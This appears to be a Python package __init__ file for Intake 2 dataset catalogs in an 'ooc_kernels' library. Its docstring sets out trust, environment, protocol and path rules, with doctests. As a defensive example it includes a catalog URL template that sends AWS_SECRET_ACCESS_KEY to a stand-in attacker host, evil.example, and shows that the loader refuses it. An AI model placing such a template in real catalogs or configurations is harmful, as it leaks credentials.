"""Intake 2 catalogs of ``ooc_kernels`` datasets, opened safely.

A catalog is an Intake 2 YAML file (``version: 2``).  Each dataset is a reader entry
``intake.readers.readers:XArrayDatasetReader`` over a data entry
``intake.readers.datatypes:Zarr`` whose ``url`` is relative to the catalog's folder
(``{CATALOG_DIR}/data/NAME.zarr``).  :func:`register_dataset` writes such entries.

A catalog from elsewhere is untrusted by default: the rules below hold unless the caller
passes ``trusted=True``, which means "I trust this whole file" and lifts all of them.

One module per job: :mod:`~ooc_kernels.data.catalog.trust` holds the trust and
environment rules (:func:`check_catalog_trust` and its allow-lists),
:mod:`~ooc_kernels.data.catalog.locations` the location and path rules
(:func:`check_catalog_paths`, the protocol and storage-option allow-lists), ``_reading.py``
loading and opening (:func:`load_catalog`, :func:`list_datasets`, :func:`describe_catalog`,
:func:`entry_path`, :func:`open_dataset`), ``_registering.py`` writing entries
(:func:`register_dataset`, :func:`declare_dataset`) and ``_names.py`` the rule of entry
names (:func:`check_entry_name`: letters and digits of any script, ``_``, ``-``, ``.``, in
Unicode normal form C).  This package re-exports the public names of all five; the two rule modules are public so that their allow-lists are
documented where they are defined.

Trust rule
----------
Intake 2 catalogs can import and call arbitrary Python (reader classes, ``cls`` keys,
``{func(...)}``/``{import(...)}``/``{pickle64(...)}`` templates, user-parameter types).
An untrusted catalog file is parsed with a ``yaml.SafeLoader`` that refuses aliases and
nesting deeper than 100 levels (:func:`ooc_kernels._untrusted.load_yaml`) and checked
*before* Intake sees it: every reader, data type, ``cls`` and user-parameter type must be in a small
allow-list of classes that only read data, an xarray ``engine`` key must be the string ``zarr``, and every
template must be a plain parameter (``{CATALOG_DIR}``), ``{data(...)}`` or
``{env(NAME)}``.  Anything else raises
:class:`~ooc_kernels.exceptions.UntrustedCatalogError` without importing anything.

Environment rule
----------------
Intake fills ``{env(NAME)}`` (and ``env(NAME)`` without braces in user-parameter defaults)
from the environment, so a catalog could send a secret to a URL of its choice
(``https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr``).  An untrusted catalog may
only read the variables the *caller* names: ``allow_env=("NAME", ...)`` (command line:
``--allow-env NAME``); any other ``env(...)`` raises ``UntrustedCatalogError``.

Location rule
-------------
After the templates are filled in exactly as Intake fills them, every place an entry or a
data description names a location (``url``, ``urlpath``, ``path``, ``paths``, ``args``,
``store``, ``fo`` ... as a string, or every element of a list or tuple; anything else there
is refused as uncheckable) is split into its fsspec protocols (``a::b::c`` chains too):

* remote protocols in :data:`REMOTE_PROTOCOLS` (``s3``, ``gs``, ``https`` ...) are allowed;
* protocols that reach the local file system (:data:`LOCAL_PROTOCOLS`: ``file``, ``local``,
  the caches, ``zip``, ``tar``, ``dir``, ``reference``) are checked by the path rule below;
  for ``reference::`` the JSON reference file is read and every target it maps is checked
  the same way (a reference set that cannot be read completely, e.g. parquet or jinja
  templates, is refused);
* any other protocol (``memory``, ``data``, ``git``, ``sftp`` ...) raises
  ``UntrustedCatalogError``.

``storage_options`` (anywhere in an entry) may only set the harmless keys of
:data:`SAFE_STORAGE_OPTIONS` (``anon``, ``requester_pays`` ...), never ``fo``,
``target_protocol``, ``remote_options``, ``protocol`` and the like.

Path rule
---------
Every local path an entry reads (after templates, ``~``, ``file:`` prefixes and
percent-encoding are removed, ``..`` resolved and symbolic links followed, in every way the
openers interpret them; glob patterns are expanded), and every symbolic link inside a store
folder it reaches (array folders, chunk files, metadata files, at any depth), must lie
inside the catalog file's folder, so a catalog cannot reach ``../../home/me/.ssh`` or ``/etc``.  Otherwise
:class:`PathEscapeError` is raised unless the caller passes ``allow_outside=[folder, ...]``
(these folders as well; command line ``--data-root PATH``), ``allow_outside=True`` (any
path; ``--allow-outside``) or ``trusted=True`` (``--trusted``).  Zarr groups (``root``,
``group``) must not contain ``..``.

Examples
--------
>>> import os, tempfile
>>> from ooc_kernels.data import make_dataset, register_dataset, list_datasets, open_dataset
>>> d = tempfile.mkdtemp()
>>> p = make_dataset("synthetic_krr_2d", os.path.join(d, "data", "krr.zarr"), 100,
...                  chunk_size=50)
>>> cat = os.path.join(d, "demo.yaml")
>>> register_dataset(cat, "krr", p, description="toy regression")
>>> list_datasets(cat)
['krr']
>>> open_dataset(cat, "krr").X.chunks
((50, 50), (2,))
>>> outside = os.path.join(d, "catalogs", "demo.yaml")   # data is in ../data from there
>>> register_dataset(outside, "krr", p)
Traceback (most recent call last):
...
ooc_kernels.exceptions.PathEscapeError: cannot register entry 'krr' ...
>>> register_dataset(outside, "krr", p, allow_outside=[os.path.join(d, "data")])
>>> open_dataset(outside, "krr", allow_outside=[os.path.join(d, "data")]).sizes["sample"]
100
>>> open_dataset(outside, "krr", trusted=True).sizes["sample"]   # trust lifts the rules
100

A catalog that reads an environment variable needs the caller's permission:

>>> import yaml
>>> from pathlib import Path
>>> spec = yaml.safe_load(Path(cat).read_text())
>>> (data,) = spec["data"].values()
>>> data["kwargs"]["url"] = "https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr"
>>> evil = os.path.join(d, "evil.yaml")
>>> with open(evil, "w") as f:
...     yaml.safe_dump(spec, f)
>>> list_datasets(evil)
Traceback (most recent call last):
...
ooc_kernels.exceptions.UntrustedCatalogError: catalog ...: data ... reads the environment variable ...
>>> list_datasets(evil, allow_env=["AWS_SECRET_ACCESS_KEY"])
['krr']
"""

from ...exceptions import PathEscapeError
from ._names import check_entry_name
from ._reading import describe_catalog, entry_path, list_datasets, load_catalog, open_dataset
from ._registering import (check_catalog_target, create_catalog, declare_dataset,
                           register_dataset)
from .locations import (
    ALLOWED_ENGINES,
    LOCAL_PROTOCOLS,
    REMOTE_PROTOCOLS,
    SAFE_STORAGE_OPTIONS,
    AllowOutside,
    check_catalog_paths,
)
from .trust import (
    ALLOWED_DATATYPES,
    ALLOWED_READERS,
    ALLOWED_USER_PARAMETERS,
    check_catalog_trust,
)

__all__ = [
    "ALLOWED_READERS",
    "ALLOWED_DATATYPES",
    "ALLOWED_USER_PARAMETERS",
    "ALLOWED_ENGINES",
    "REMOTE_PROTOCOLS",
    "LOCAL_PROTOCOLS",
    "SAFE_STORAGE_OPTIONS",
    "AllowOutside",
    "PathEscapeError",
    "check_catalog_trust",
    "check_catalog_paths",
    "load_catalog",
    "list_datasets",
    "describe_catalog",
    "entry_path",
    "open_dataset",
    "register_dataset",
    "check_catalog_target",
    "create_catalog",
    "declare_dataset",
    "check_entry_name",
]
